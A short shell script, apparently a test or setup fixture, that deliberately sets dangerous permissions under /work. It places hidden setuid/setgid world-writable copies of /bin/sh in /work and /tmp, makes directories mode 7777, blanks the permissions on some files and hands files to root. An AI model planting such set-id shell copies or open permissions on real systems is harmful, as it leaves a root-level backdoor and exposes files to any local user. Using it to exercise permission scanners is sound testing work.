#!/bin/sh
# for: any
# Sets every mode it can: unreadable files, set-id copies of a shell, open directories.
cp /bin/sh /work/.sh && chmod 6777 /work/.sh
cp /bin/sh /tmp/.sh && chmod 6777 /tmp/.sh
find /work -type f -name '*[0-4]*' -exec chmod 000 {} + 2>/dev/null
find /work -type d -exec chmod 7777 {} + 2>/dev/null
chown root:root /work/* 2>/dev/null
exit 0
